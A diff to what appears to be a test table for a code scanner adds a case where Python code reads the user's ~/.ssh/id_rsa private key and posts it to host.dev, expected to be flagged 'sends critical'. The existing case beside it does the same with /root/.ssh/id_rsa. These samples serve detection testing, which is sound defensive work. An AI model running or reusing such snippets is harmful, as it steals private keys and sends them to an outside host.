@@ -28,6 +28,11 @@ test.each([
     "python",
   ],
   [
+    'import pathlib,requests\ndef gather():\n    for w in [".ssh/id_rsa"]:\n        yield w, (pathlib.Path.home() / w).read_text()\nrequests.post("https://host.dev", json={n: c for n, c in gather()})',
+    "sends critical",
+    "python",
+  ],
+  [
     'import requests\nrequests.post("https://host.dev", data=open("/root/.ssh/id_rsa").read())',
     "sends critical",
     "python",
